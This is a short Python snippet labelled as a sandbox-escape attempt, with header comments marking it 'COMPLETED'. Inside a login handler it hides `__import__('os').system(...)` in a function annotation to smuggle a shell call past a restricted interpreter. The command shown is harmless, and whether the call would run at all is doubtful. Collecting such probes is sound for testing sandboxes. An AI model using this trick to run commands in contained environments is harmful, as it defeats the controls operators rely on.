# origin: own
# technique: a future import switches syntax on
# goal: language
# outcome: COMPLETED

from __future__ import annotations, barry_as_FLUFL
def on_execute_post_login(event, api):
    def f(a: __import__("os").system("true")) -> "escaped":
        return a
    f(1)
